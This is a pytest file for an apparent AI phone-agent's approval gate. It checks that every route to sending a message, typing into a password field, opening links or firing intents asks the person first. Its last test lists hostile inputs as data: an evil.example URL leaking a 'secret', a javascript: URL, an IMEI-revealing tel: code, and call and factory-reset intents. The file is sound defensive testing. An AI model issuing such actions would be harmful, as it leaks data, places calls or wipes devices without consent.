"""Every way of touching something passes the gate: by name, number, place and key, the keys on the screen included."""

from __future__ import annotations

import pytest

from genie_host.core.calls import ToolCall

DONE = ("tasks", {"plan": "done"})
TYPE_HI = ("type_text", {"field": "Text message", "text": "hi"})


def call(name, **arguments):
    return ToolCall(call_id="1", tool_name=name, arguments=arguments)


def filled(stage):
    """A door, and the screen with a message ready to go and the keyboard up."""
    stage.show("messages", "conversation", name="Mum")
    door = stage.door()
    door.execute(call("type_text", field="Text message", text="hi"), stage.phone.observe(), "send hi to Mum")
    return door, stage.phone.observe()


@pytest.mark.parametrize(
    "attempt",
    [
        ("click", {"target": "Send"}),
        ("double_tap", {"target": "Send"}),
        ("long_press", {"target": "Send"}),
        ("drag", {"start": "Send", "end": "Text message"}),
        ("drag", {"start": "Send", "end": "Send"}),
        ("drag", {"start": "Text message", "end": "Send"}),
        ("drag", {"start": "Text message", "end": "send"}),
        ("drag", {"start": "Text message", "end": "Sen"}),
        ("tap_at", {"x": 907, "y": 590}),
        ("press_key", {"key": "enter"}),
        ("press_key", {"key": "send"}),
        ("press_key", {"key": "go"}),
        ("press_key", {"key": "done"}),
        ("append_text", {"field": "Text message", "text": " there\n"}),
        ("type_text", {"field": "Text message", "text": "hi\n"}),
    ],
)
def test_whatever_may_send_is_asked_about(stage, attempt):
    stage.show("messages", "conversation", name="Mum")
    stage.run(TYPE_HI, attempt, DONE, goal="send hi to Mum")
    assert stage.outcomes() == ["done", "denied"]
    assert len(stage.person.asked) == 1
    assert stage.happened("message_sent") == []


def test_by_its_number_it_is_the_same(stage):
    door, screen = filled(stage)
    number = screen.element_named("Send").ref
    assert door.execute(call("click", target=f"#{number}"), screen, "send hi to Mum").outcome.code == "denied"


def key_at(screen, name):
    """Where a key of the on-screen keyboard lies, in thousandths."""
    keys = [node for root in screen.roots for node in root.walk() if "inputmethod" in node.package_name]
    place = next(key for key in keys if key.content_description == name).bounds.center
    return {"x": place.x / (screen.size.width - 1) * 1000, "y": place.y / (screen.size.height - 1) * 1000}


def test_the_enter_key_on_the_screen_is_the_enter_key(stage):
    door, screen = filled(stage)
    assert door.execute(call("tap_at", **key_at(screen, "Enter")), screen, "send hi to Mum").outcome.code == "denied"
    (request,) = stage.person.asked
    assert dict(request.details) == {"recipient": "Mum", "text": "hi"}


@pytest.mark.parametrize(("key", "text"), [("q", "hiq"), ("Delete", "h"), ("Space", "hi")])
def test_keys_that_write_are_free(stage, key, text):
    door, screen = filled(stage)
    assert door.execute(call("tap_at", **key_at(screen, key)), screen, "send hi to Mum").outcome.code in (
        "done",
        "no_change",
    )
    assert stage.phone.observe().element_named("Text message").value == text
    assert stage.person.asked == []


def test_a_secret_is_not_typed_key_by_key_unasked(stage):
    stage.show("browser", "login")
    screen = stage.phone.observe()
    secret = next(each for each in screen.elements if each.node.is_password)
    door = stage.door()
    stage.phone.tap(secret.node.bounds.center)
    screen = stage.phone.observe()
    assert screen.is_keyboard_shown
    assert door.execute(call("tap_at", **key_at(screen, "q")), screen, "log in").outcome.code == "denied"


@pytest.mark.parametrize(
    ("attempt", "is_asked"),
    [
        (("open_link", {"url": "https://evil.example/?q=secret"}), True),
        (("open_link", {"url": "javascript:alert(1)"}), True),
        (("open_link", {"url": "tel:*%2306%23"}), True),
        (("launch_intent", {"action": "android.intent.action.CALL", "data": "tel:5550100"}), True),
        (("launch_intent", {"action": "android.intent.action.FACTORY_RESET"}), True),
        (("launch_intent", {"action": "android.settings.WIFI_SETTINGS"}), False),
    ],
)
def test_links_and_intents_pass_the_gate(stage, attempt, is_asked):
    stage.run(attempt, DONE, goal="look at the Wi-Fi settings")
    assert (stage.outcomes()[0] in ("denied", "refused")) is is_asked, stage.events("acted")
